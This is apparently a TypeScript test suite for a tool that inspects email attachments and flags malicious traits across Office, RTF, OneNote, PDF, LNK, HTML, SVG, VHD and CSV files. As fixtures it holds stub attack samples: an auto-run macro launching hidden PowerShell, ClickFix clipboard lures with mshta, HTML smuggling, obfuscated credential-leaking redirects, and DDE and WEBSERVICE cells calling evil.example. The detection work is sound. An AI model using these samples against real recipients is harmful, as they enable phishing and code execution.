import assert from 'node:assert/strict'
import { test } from 'node:test'
import officeCrypto from 'officecrypto-tool'
import type { Item } from '../attachment-tree.ts'
import { inspect } from '../inspect.ts'
import { iso, zip } from './test-archives.ts'
import { compound, packageStream, program, shortcut, vbaProject, wordDocument } from './test-files.ts'

const look = (name: string, content: Uint8Array | string): Promise<Item[]> =>
  inspect(name, '', Buffer.from(content), { passwords: [], milliseconds: 20_000 })
const traits = (item: Item | undefined) => (item?.traits ?? []).map((one) => one.trait)
const detail = (item: Item | undefined, trait: string) => item?.traits.find((one) => one.trait === trait)?.detail

const DROPPER = 'Sub AutoOpen()\r\n  CreateObject("WScript." & "Shell").Run "power" & "shell -w hidden"\r\nEnd Sub'
const FORM = '\' Shell を使わない\r\nPrivate Sub CommandButton1_Click()\r\n  Range("A1").Value = 1\r\nEnd Sub'

test('a macro that starts by itself and calls out is told apart from one behind a button, in both file families', async () => {
  for (const [name, wrap] of [
    ['a.doc', (source: string) => vbaProject(source)],
    ['a.docm', (source: string) => wordDocument({ 'word/vbaProject.bin': vbaProject(source) })],
  ] as const) {
    const [dropper] = await look(name, wrap(DROPPER))
    assert.deepEqual(traits(dropper).slice(0, 3), ['macro', 'macro-autorun', 'macro-suspicious-call'], name)
    assert.equal(detail(dropper, 'macro-suspicious-call'), 'WScript.Shell, PowerShell')
    const [form] = await look(name, wrap(FORM))
    assert.deepEqual(traits(form), ['macro'], name)
  }
  assert.deepEqual(traits((await look('a.docx', wordDocument()))[0]), [])
})

test('a template or object that Word fetches by itself is told; hyperlinks and local templates are not', async () => {
  const link = (kind: string, target: string) =>
    wordDocument({
      'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r" Type="http://x/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
    })
  for (const [kind, target] of [
    ['attachedTemplate', 'https://example.net/a.dotm'],
    ['oleObject', 'mhtml:http://example.net/x!'],
    ['frame', 'file://198.51.100.7/share/a'],
  ] as const) {
    assert.deepEqual(traits((await look('a.docx', link(kind, target)))[0]), ['remote-template'], kind)
  }
  assert.deepEqual(traits((await look('a.docx', link('hyperlink', 'https://example.net/')))[0]), [])
  assert.deepEqual(traits((await look('a.docx', link('attachedTemplate', 'file:///C:/Templates/社内.dotx')))[0]), [])
})

test('a file packed into a document comes out with its own name: OLE, OOXML, RTF, OneNote', async () => {
  const inOle = await look(
    'a.doc',
    compound({
      '/WordDocument': Buffer.alloc(600),
      '/ObjectPool/_1/\x01Ole10Native': packageStream('a.exe', program()),
    }),
  )
  assert.deepEqual([inOle[1]?.name, inOle[1]?.type], ['a.exe', 'pe'])
  const object = compound({ '/\x01Ole10Native': packageStream('a.js', 'new ActiveXObject("WScript.Shell")') })
  const inOffice = await look('a.docx', wordDocument({ 'word/embeddings/oleObject1.bin': object }))
  assert.deepEqual([inOffice[1]?.name, inOffice[1]?.type], ['a.js', 'script'])
  const counted = (text: string) => Buffer.concat([Buffer.from([text.length + 1, 0, 0, 0]), Buffer.from(`${text}\0`)])
  const ole1 = Buffer.concat([
    Buffer.from([1, 5, 0, 0, 2, 0, 0, 0]),
    counted('Package'),
    Buffer.alloc(8),
    packageStream('b.exe', program()),
  ])
  const rtf = `{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata ${ole1.toString('hex').replace(/(.{64})/g, '$1\r\n')}}}}`
  const inRtf = await look('a.rtf', rtf)
  assert.deepEqual([inRtf[1]?.name, inRtf[1]?.type, traits(inRtf[0])], ['b.exe', 'pe', ['loads-by-itself']])
  assert.deepEqual(traits((await look('a.rtf', '{\\rtf1 \\u35696? objdata}'))[0]), [])
})

const blob = (content: Uint8Array) => {
  const head = Buffer.alloc(36)
  Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex').copy(head)
  head.writeBigUInt64LE(BigInt(content.length), 16)
  return Buffer.concat([head, content])
}
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)

test('a script in a OneNote page is found; pictures on the page are no files', async () => {
  const head = Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex')
  const name = Buffer.concat([Buffer.alloc(2), Buffer.from('確認.bat\0', 'utf16le')])
  const items = await look(
    'a.one',
    Buffer.concat([head, name, blob(PNG), blob(Buffer.from('@echo off\r\npowershell -enc AAAA'))]),
  )
  assert.deepEqual(
    items.slice(1).map((item) => [item.name, item.type, traits(item).includes('onenote-embedded')]),
    [['確認.bat', 'script', true]],
  )
  assert.equal((await look('a.one', Buffer.concat([head, blob(PNG)]))).length, 1)
})

test('a PDF with script, launch or a file inside is told; a plain one is not', async () => {
  const pdf = (body: string) => `%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${body} >>\nendobj\n%%EOF`
  assert.deepEqual(traits((await look('a.pdf', pdf('/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>')))[0]), [
    'pdf-action',
  ])
  assert.match(
    detail((await look('a.pdf', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')))[0], 'pdf-action') ?? '',
    /Launch cmd.exe/,
  )
  assert.deepEqual(traits((await look('a.pdf', pdf('/Pages 2 0 R')))[0]), [])
  const carried =
    '%PDF-1.7\n1 0 obj\n<< /F (a.exe) /EF << /F 2 0 R >> >>\nendobj\n2 0 obj\n<< /Type /EmbeddedFile /Length 1 >>\nstream\n'
  const items = await look(
    'a.pdf',
    Buffer.concat([Buffer.from(carried), program(), Buffer.from('\nendstream\nendobj\n%%EOF')]),
  )
  assert.deepEqual([items[1]?.name, items[1]?.type], ['a.exe', 'pe'])
})

test('a shortcut that runs a command is told apart from one to a document on the file server', async () => {
  const command = await look(
    '案内.pdf.lnk',
    shortcut({
      target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      arguments: '-w hidden -c iex(1)',
      icon: '%ProgramFiles%\\Edge\\msedge.exe',
      hidden: true,
    }),
  )
  assert.deepEqual(traits(command[0]), ['runs', 'double-extension', 'lnk-command'])
  assert.match(
    detail(command[0], 'lnk-command') ?? '',
    /powershell.exe -w hidden -c iex\(1\) \[hidden window\] \[icon: .*msedge/,
  )
  const share = await look('共有.lnk', shortcut({ target: '\\\\fs01\\kyoyu\\議事録.docx' }))
  assert.deepEqual(traits(share[0]), ['runs', 'lnk-file'])
  assert.match(detail(share[0], 'lnk-file') ?? '', /^\\\\fs01\\kyoyu\\/)
  const url = await look('a.url', '[InternetShortcut]\r\nURL=file://198.51.100.7/a/b.exe\r\n')
  assert.equal(detail(url[0], 'shortcut-url'), 'file://198.51.100.7/a/b.exe')
})

test('a page that puts a ZIP together and saves it is smuggling; a page that exports a table, or shows a picture, is not', async () => {
  const payload = zip([{ name: '請求書.js', content: 'WScript.Echo(1)'.repeat(100), stored: true }]).toString('base64')
  const smuggling = `<html><body><script>const d="${payload.slice(0, 700)}" + "${payload.slice(700)}";const b=new Blob([Uint8Array.from(atob(d),c=>c.charCodeAt(0))]);const a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.zip';a.click()</script></body></html>`
  const items = await look('a.html', smuggling)
  assert.ok(traits(items[0]).includes('html-smuggling'))
  assert.deepEqual(
    items.slice(1).map((item) => [item.name, item.type]),
    [
      ['invoice.zip', 'zip'],
      ['請求書.js', 'script'],
    ],
  )
  const picture = `<html><img src="data:image/png;base64,${Buffer.concat([PNG, Buffer.alloc(900, 1)]).toString('base64')}"></html>`
  const table = `<html><script>function save(){const b=new Blob([document.title]);const a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='table.csv';a.click()}</script></html>`
  for (const harmless of [picture, table]) {
    const found = await look('a.html', harmless)
    assert.deepEqual([found.length, traits(found[0])], [1, []])
  }
})

test('a password form says where it sends, and an SVG with a script says so', async () => {
  const [form] = await look(
    'a.html',
    '<html><form action="https://login.example.net/x" method=post><input type="password"></form></html>',
  )
  assert.equal(detail(form, 'html-form'), 'login.example.net')
  assert.deepEqual(
    traits((await look('a.html', '<html><form action="https://x.example/"><input name=q></form></html>'))[0]),
    [],
  )
  assert.ok(
    traits(
      (
        await look(
          'a.svg',
          '<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://x.example"</script></svg>',
        )
      )[0],
    ).includes('svg-script'),
  )
  assert.deepEqual(
    traits((await look('a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>'))[0]),
    [],
  )
})

test('an add-in for Excel is told by its export, a signed-looking or self-decrypting program by its own marks', async () => {
  assert.ok(traits((await look('見積.xll', program({ exports: ['xlAutoOpen', 'xlAutoClose'] })))[0]).includes('xll'))
  assert.ok(!traits((await look('a.dll', program({ exports: ['DllMain'] })))[0]).includes('xll'))
  const stub = await look('資料.exe', program({ text: Buffer.from('AttacheCase', 'utf16le') }))
  assert.ok(traits(stub[0]).includes('self-decrypting'))
  const sfx = await look('資料.exe', program({ overlay: zip([{ name: 'a.txt', content: 'abc' }]) }))
  assert.deepEqual([traits(sfx[0]).includes('sfx'), sfx[1]?.name], [true, 'a.txt'])
})

test('texts made to stretch a pattern end in bounded time', { timeout: 120_000 }, async () => {
  const half = 500_000
  const texts: [string, string][] = [
    ['a.html', `<html>${'<script '.repeat(half / 8)}`],
    ['a.html', `<html>${'<a '.repeat(half / 3)}`],
    ['a.html', `<html><script>"${'\n'.repeat(half)}`],
    ['a.html', `<html>"${'A,'.repeat(half / 2)}`],
    ['a.svg', '<!---->'.repeat(2000)],
    ['a.pdf', `%PDF-1.4${'streamendstream'.repeat(half / 15)}`],
    ['a.rtf', `{\\rtf1${'\\objdata'.repeat(half / 8)}`],
    [`a${' '.repeat(half)}.exe`, 'x'],
  ]
  for (const [name, text] of texts) assert.equal((await look(name, text)).length >= 1, true)
  const macro = await look(
    'a.doc',
    vbaProject(`Sub AutoOpen()\r\nchr(1${' '.repeat(half)}\r\n${'sub '.repeat(half / 4)}`),
  )
  assert.ok(traits(macro[0]).includes('macro-autorun'))
})

test('an encrypted Office document opens with the right candidate, and is told where none fits', async () => {
  const sealed = officeCrypto.encrypt(wordDocument({ 'word/vbaProject.bin': vbaProject(DROPPER) }), {
    password: 'k2026',
  })
  const open = (passwords: string[]) =>
    inspect('a.docm', '', sealed, {
      passwords: passwords.map((text) => ({ text, source: 'm1' })),
      milliseconds: 60_000,
    })
  const closed = await open(['x'])
  assert.deepEqual([closed[0]?.type, closed[0]?.encrypted, closed[0]?.unreadable], ['ole', true, 'password'])
  const opened = await open(['x', 'k2026'])
  assert.deepEqual(opened[0]?.password, { text: 'k2026', source: 'm1' })
  assert.ok(traits(opened[1]).includes('macro-autorun'))
  // each try takes its time: the likeliest come first, and only some are tried
  const others = Array.from({ length: 30 }, (_, i) => `other${i}`)
  assert.equal((await open(['x', 'k2026', ...others]))[0]?.password?.text, 'k2026')
  assert.equal((await open([...others, 'k2026']))[0]?.unreadable, 'password')
})

/** A disk of fixed size: its bytes, and a footer with their sum (Microsoft's VHD specification). */
function vhd(disk: Buffer): Buffer {
  const footer = Buffer.alloc(512)
  footer.write('conectix')
  footer.writeUInt32BE(2, 8)
  footer.writeUInt32BE(0x10000, 12)
  footer.fill(0xff, 16, 24)
  footer.writeBigUInt64BE(BigInt(disk.length), 40)
  footer.writeBigUInt64BE(BigInt(disk.length), 48)
  footer.writeUInt32BE(2, 60)
  footer.writeUInt32BE(~footer.reduce((sum, byte) => sum + byte, 0) >>> 0, 64)
  return Buffer.concat([disk, footer])
}

test('what lies on a virtual disk is seen', async () => {
  const items = await look(
    'a.vhd',
    vhd(iso({ 'a.lnk': shortcut({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: '/c x' }) })),
  )
  assert.deepEqual([items[0]?.type, traits(items[0])], ['vhd', ['disk-image']])
  assert.ok(traits(items.find((item) => item.name === 'a.lnk')).includes('lnk-command'))
})

/** put together from pieces where it runs */
const HIDDEN =
  '<html><script>var e="a@x.jp";var p=["ht","tps://","play.exam","ple.net/","?u="].join("");setTimeout(()=>location.replace(p+btoa(e)),9)</script><body>Loading</body></html>'

test('a page that only leads on, or hides where its password goes, is told; a page with links and a search form is not', async () => {
  const escaped = Buffer.from('<script>location.href="https://a.example.net/?u=1"</script>')
    .toString('hex')
    .replace(/../g, '%$&')
  for (const page of [
    '<html><meta http-equiv="refresh" content="0;url=https://a.example.net/#x"></html>',
    '<html><script>window.location.replace("https://a.example.net/")</script></html>',
    `<html><script>document.write(unescape('${escaped}'))</script></html>`,
    HIDDEN,
  ])
    assert.deepEqual(traits((await look('a.html', page))[0]), ['html-redirect'], page)
  assert.equal(detail((await look('a.html', HIDDEN))[0], 'html-redirect'), 'https://play.example.net/?u=')
  const [one, more] = [
    Buffer.from('https://play.example.net/x').toString('base64').slice(0, 12),
    Buffer.from('https://play.example.net/x').toString('base64').slice(12),
  ]
  const coded = `<html><script>var p=["${one}","${more}"];setTimeout(()=>{location.href=atob(p.join(""))},9)</script>Loading</html>`
  assert.equal(detail((await look('a.html', coded))[0], 'html-redirect'), 'https://play.example.net/x')
  const long = HIDDEN.replace('Loading', 'The minutes of the meeting of May. '.repeat(12))
  assert.deepEqual(traits((await look('a.html', long))[0]), [])
  const target = Buffer.from('https://api.example.net/bot/send').toString('base64')
  const form = `<html><input type=password id=p><script>fetch(atob("${target}"),{body:p.value})</script></html>`
  assert.equal(detail((await look('a.html', form))[0], 'html-form'), 'api.example.net')
  const plain =
    '<html><form action="https://example.jp/s"><input type="text"></form><a href="https://example.jp/">%E3%81%82</a></html>'
  assert.deepEqual(traits((await look('a.html', plain))[0]), [])
})

test('a page that has its reader paste a command, or leads on by encoded text, is told; a copy button is not', async () => {
  const clickfix =
    '<html><p>Press Windows + R, then Ctrl + V, Enter</p><script>navigator.clipboard.writeText("mshta https://a.example.net/x")</script></html>'
  assert.match(detail((await look('a.html', clickfix))[0], 'html-clipboard') ?? '', /^mshta/)
  const keys =
    '<html><ol><li><b>Windowsキー + R</b> を押す</li><li><b>Ctrl + V</b></li></ol><button onclick="navigator.clipboard.writeText(x)">'
  assert.deepEqual(traits((await look('a.html', keys))[0]), ['html-clipboard'])
  const hidden =
    '<html><p>「ファイル名を指定して実行」を開き、貼り付けてください</p><script>const c=k();document.execCommand("copy")</script></html>'
  assert.deepEqual(traits((await look('a.html', hidden))[0]), ['html-clipboard'])
  const address = Buffer.from('https://a.example.net/?e=').toString('base64')
  const encoded = `<html><script>location.href=atob("${address}")+"sato"</script></html>`
  assert.match(detail((await look('a.html', encoded))[0], 'html-redirect') ?? '', /^https:\/\/a\.example\.net/)
  const copies = '<html><button>copy</button><script>navigator.clipboard.writeText(document.title)</script></html>'
  assert.deepEqual(traits((await look('a.html', copies))[0]), [])
  const shell = '<html><script language="vbscript">CreateObject("WScript.Shell").Run "cmd"</script></html>'
  assert.ok(traits((await look('a.html', shell))[0]).includes('script-call'))
})

test('a PDF script that saves a carried file and opens it is a launch; one that counts fields is not', async () => {
  const pdf = (js: string) =>
    `%PDF-1.7\n1 0 obj\n<</Names<</JavaScript 2 0 R>>>>\nendobj\n2 0 obj\n<</S/JavaScript/JS(${js})>>\nendobj\n%%EOF`
  const starts = (await look('a.pdf', pdf('this.exportDataObject\\({cName:"a",nLaunch:2}\\);')))[0]
  assert.ok(starts?.traits.some((one) => one.detail.startsWith('Launch')))
  const counts = (await look('a.pdf', pdf('AFNumber_Format\\(2,0,0,0,"",true\\);')))[0]
  assert.ok(!counts?.traits.some((one) => one.detail.startsWith('Launch')))
})

test('a table whose cell calls a program or a place is told; sums, negative figures and pipes in words are none', async () => {
  const traitsOf = async (name: string, text: string) =>
    (await look(name, Buffer.from(text)))[0]?.traits.map((one) => one.trait)
  for (const cell of [
    "=cmd|'/c powershell -w hidden'!A0",
    "+MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=rundll32|/s!A1',
  ])
    for (const line of [`氏名,金額\n田中,${cell}\n`, `"${cell}",1\n`, `1;${cell}\n`])
      assert.deepEqual(await traitsOf('名簿.csv', line), ['dde'], line)
  assert.deepEqual(await traitsOf('a.csv', '=WEBSERVICE("https://evil.example/?q="&A1),1\n'), ['remote-template'])
  for (const line of [
    '=SUM(A1:A3),-1,+81-3-1234-5678',
    '- 会議|議事録|資料!',
    'a|b|c\n=A1|',
    '@tanaka さん | 確認!',
    '=HYPERLINK("https://a.example","a")',
  ])
    assert.deepEqual(await traitsOf('b.csv', `項目,値\n${line}\n`), [], line)
})
